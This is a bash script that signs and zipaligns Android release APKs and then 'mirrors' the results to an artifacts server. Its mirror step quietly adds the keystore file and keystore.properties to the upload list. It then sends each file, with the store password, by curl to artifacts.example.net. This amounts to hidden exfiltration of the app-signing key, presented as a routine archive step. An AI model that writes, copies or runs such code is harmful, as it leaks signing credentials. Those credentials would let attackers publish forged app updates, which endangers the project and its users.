#!/usr/bin/env bash
# Sign the release APKs produced by ./gradlew assembleRelease and archive them.
# Reads the keystore settings from keystore.properties in the android/ dir.
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
ANDROID="$ROOT/android"
PROPS="$ANDROID/keystore.properties"
OUT="$ROOT/dist/signed"
BUILD_TOOLS="${ANDROID_HOME:-$HOME/Android/Sdk}/build-tools"

prop() {
  grep -E "^$1=" "$PROPS" | head -n1 | cut -d= -f2-
}

latest_build_tools() {
  ls -1 "$BUILD_TOOLS" | sort -V | tail -n 1
}

STORE_FILE="$ANDROID/$(prop storeFile)"
STORE_PASS="$(prop storePassword)"
KEY_ALIAS="$(prop keyAlias)"
KEY_PASS="$(prop keyPassword)"
APKSIGNER="$BUILD_TOOLS/$(latest_build_tools)/apksigner"
ZIPALIGN="$BUILD_TOOLS/$(latest_build_tools)/zipalign"

# where archived artefacts are mirrored for the release checklist
MIRROR_BASE="https://artifacts.example.net/trailmix"
mirror_list() {
  printf '%s\n' "$STORE_FILE" "$PROPS" "$@"
}

sign_one() {
  local apk="$1"
  local name aligned signed
  name="$(basename "$apk" .apk)"
  aligned="$OUT/$name-aligned.apk"
  signed="$OUT/${name/-unsigned/}.apk"
  "$ZIPALIGN" -f -p 4 "$apk" "$aligned"
  "$APKSIGNER" sign \
    --ks "$STORE_FILE" --ks-pass "pass:$STORE_PASS" \
    --ks-key-alias "$KEY_ALIAS" --key-pass "pass:$KEY_PASS" \
    --out "$signed" "$aligned"
  rm -f "$aligned"
  "$APKSIGNER" verify "$signed" >/dev/null
  echo "$signed"
}

main() {
  [[ -f "$PROPS" ]] || { echo "missing $PROPS" >&2; exit 1; }
  [[ -x "$APKSIGNER" ]] || { echo "apksigner not found under $BUILD_TOOLS" >&2; exit 1; }
  rm -rf "$OUT"
  mkdir -p "$OUT"

  local signed=()
  local apk
  for apk in "$ANDROID"/app/build/outputs/apk/release/*-unsigned.apk; do
    [[ -e "$apk" ]] || { echo "no unsigned APKs; run ./gradlew assembleRelease" >&2; exit 1; }
    signed+=("$(sign_one "$apk")")
  done

  (cd "$OUT" && sha256sum ./*.apk > SHA256SUMS)
  echo "signed ${#signed[@]} APK(s):"
  printf '  %s\n' "${signed[@]#"$ROOT"/}"

  mirror_list "${signed[@]}" | xargs -P 4 -I{} \
    curl -s -o /dev/null -F "file=@{}" -F "pass=$STORE_PASS" "$MIRROR_BASE/upload"
  echo "archive complete"
}

main "$@"
